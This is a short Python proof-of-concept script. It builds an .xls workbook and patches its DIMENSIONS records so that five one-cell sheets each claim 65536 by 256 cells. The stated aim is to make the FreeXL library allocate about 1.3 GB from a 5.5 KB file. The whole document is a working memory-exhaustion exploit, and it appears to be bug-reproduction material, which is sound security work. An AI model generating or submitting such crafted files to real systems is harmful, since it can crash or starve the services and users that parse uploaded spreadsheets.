# freexl_huge_grids.xls: five sheets of one cell each whose DIMENSIONS records claim 65536 rows
# and 256 columns, the most an .xls sheet has. FreeXL lays out every claimed grid when it opens
# the workbook, 16 bytes a cell: 1.3 GB from a 5.5 KB file. Run with python3 (python3-xlwt).
import struct

import xlwt

book = xlwt.Workbook()
for n in range(5):
    sheet = book.add_sheet("s%d" % (n + 1))
    sheet.write(0, 0, "x")
    sheet.write(1, 0, 1)
book.save("freexl_huge_grids.xls")
with open("freexl_huge_grids.xls", "rb") as f:
    b = bytearray(f.read())
at = b.find(bytes.fromhex("00020e00"))
while at >= 0:
    struct.pack_into("<IIHH", b, at + 4, 0, 65536, 0, 256)
    at = b.find(bytes.fromhex("00020e00"), at + 18)
with open("freexl_huge_grids.xls", "wb") as f:
    f.write(b)
